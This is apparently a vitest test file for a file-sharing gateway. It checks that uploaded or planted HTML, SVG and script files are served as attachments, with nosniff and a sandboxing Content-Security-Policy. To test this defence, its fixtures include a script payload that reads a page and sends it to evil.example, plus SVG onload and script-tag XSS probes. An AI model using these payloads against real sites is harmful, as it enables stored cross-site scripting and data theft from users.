// [harden] Browsers must never run what the gateway serves: an uploaded or
// backend-planted .html/.svg/.js is answered with nosniff, a script-free CSP and
// Content-Disposition: attachment; safe types (text, images) stay inline.
// Checked with real HTTP (undici) and with curl, as a browser would see the headers.
import { execFile } from 'node:child_process';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fileSafetyHeaders, safeContentType } from '../../src/server/safe-content.js';
import { startTestGateway, type TestGateway } from '../helpers/gateway.js';

const EVIL = '<!doctype html><script>fetch("/").then(r=>r.text()).then(t=>fetch("https://evil.example/?"+t))</script>';

let gw: TestGateway;
beforeAll(async () => {
  gw = await startTestGateway({
    users: { alice: 'alice-pw' },
    mounts: [
      { path: '/', encrypt: true, backend: { type: 'local', root: './storage/{user}' } },
      { path: '/plain', encrypt: false, users: ['alice'], backend: { type: 'local', root: './plain' } },
    ],
  });
});
afterAll(async () => { await gw.close(); });

async function get(path: string, method = 'GET') {
  const res = await request(new URL(path, gw.url), { method: method as 'GET', headers: { authorization: gw.authHeader('alice') } });
  const body = await res.body.text();
  return { status: res.statusCode, headers: res.headers, body };
}

async function put(path: string, body: string, contentType?: string) {
  const res = await request(new URL(path, gw.url), {
    method: 'PUT', body, headers: { authorization: gw.authHeader('alice'), ...(contentType ? { 'content-type': contentType } : {}) },
  });
  await res.body.dump();
  expect(res.statusCode).toBeLessThan(300);
}

describe('GET of a stored file never runs in the browser', () => {
  it('uploaded .html: attachment, nosniff, CSP with sandbox and no script source', async () => {
    await put('/evil.html', EVIL, 'text/html');
    for (const method of ['GET', 'HEAD']) {
      const r = await get('/evil.html', method);
      expect(r.status).toBe(200);
      expect(r.headers['x-content-type-options']).toBe('nosniff');
      const csp = String(r.headers['content-security-policy']);
      expect(csp).toMatch(/default-src 'none'/);
      expect(csp).toMatch(/\bsandbox\b/);
      expect(csp).not.toMatch(/script-src/);
      expect(String(r.headers['content-disposition'])).toMatch(/^attachment; filename\*=UTF-8''evil\.html$/);
      if (method === 'GET') expect(r.body).toBe(EVIL); // WebDAV clients still get the bytes
    }
  });

  it('backend-planted .html on a plain mount, and svg/xml/js/unknown are attachments too', async () => {
    await mkdir(join(gw.root, 'plain', 'x'), { recursive: true });
    await writeFile(join(gw.root, 'plain', 'x', 'planted.html'), EVIL);
    const r = await get('/plain/x/planted.html');
    expect(r.status).toBe(200);
    expect(r.body).toBe(EVIL);
    expect(String(r.headers['content-disposition'])).toMatch(/^attachment/);
    expect(r.headers['x-content-type-options']).toBe('nosniff');
    for (const name of ['a.svg', 'a.xml', 'a.js', 'a.xhtml', 'noext', 'a.weird']) {
      await writeFile(join(gw.root, 'plain', name), '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>');
      const f = await get(`/plain/${name}`);
      expect(String(f.headers['content-disposition']), name).toMatch(/^attachment/);
      expect(f.headers['content-security-policy'], name).toBeDefined();
    }
  });

  it('text and images stay inline (still nosniff + CSP)', async () => {
    await put('/notes.txt', 'hello');
    await put('/pic.png', '\x89PNG');
    for (const p of ['/notes.txt', '/pic.png']) {
      const r = await get(p);
      expect(r.headers['content-disposition'], p).toBeUndefined();
      expect(r.headers['x-content-type-options'], p).toBe('nosniff');
    }
    // Range reads keep the headers too.
    const res = await request(new URL('/evil.html', gw.url), { headers: { authorization: gw.authHeader('alice'), range: 'bytes=0-9' } });
    await res.body.dump();
    expect(res.statusCode).toBe(206);
    expect(String(res.headers['content-disposition'])).toMatch(/^attachment/);
  });

  it('error answers are never sniffed either', async () => {
    const r = await get('/%3Cscript%3Ealert(1)%3C.txt');
    expect(r.status).toBe(404);
    expect(r.headers['x-content-type-options']).toBe('nosniff');
  });

  it('the folder index page carries nosniff and the CSP', async () => {
    const r = await get('/');
    expect(r.headers['content-type']).toMatch(/^text\/html/);
    expect(r.headers['x-content-type-options']).toBe('nosniff');
    expect(String(r.headers['content-security-policy'])).toMatch(/sandbox/);
  });

  it('curl sees the same headers', async (ctx) => {
    const curl = await promisify(execFile)('curl', ['--version']).catch(() => undefined);
    if (!curl) { ctx.skip(); return; }
    const { stdout } = await promisify(execFile)('curl', ['-s', '-D', '-', '-o', '/dev/null', '-u', 'alice:alice-pw', new URL('/evil.html', gw.url).href]);
    expect(stdout).toMatch(/^content-disposition: attachment/im);
    expect(stdout).toMatch(/^x-content-type-options: nosniff/im);
    expect(stdout).toMatch(/^content-security-policy: default-src 'none'.*sandbox/im);
  });
});

describe('safe-content (pure)', () => {
  it('normalizes hostile stored types and never trusts them inline', () => {
    expect(safeContentType('TEXT/HTML; charset=UTF-8')).toBe('text/html; charset=utf-8');
    expect(safeContentType('text/plain, text/html')).toBe('application/octet-stream');
    expect(safeContentType('text/plain; x="<script>"')).toBe('text/plain');
    expect(safeContentType(undefined)).toBe('application/octet-stream');
    expect(fileSafetyHeaders('image/svg+xml', 'a.svg')['Content-Disposition']).toMatch(/^attachment/);
    expect(fileSafetyHeaders('text/plain', 'a.txt')['Content-Disposition']).toBeUndefined();
    expect(fileSafetyHeaders('text/html', "it's (a) file*.html")['Content-Disposition']).toBe("attachment; filename*=UTF-8''it%27s%20%28a%29%20file%2A.html");
  });
});
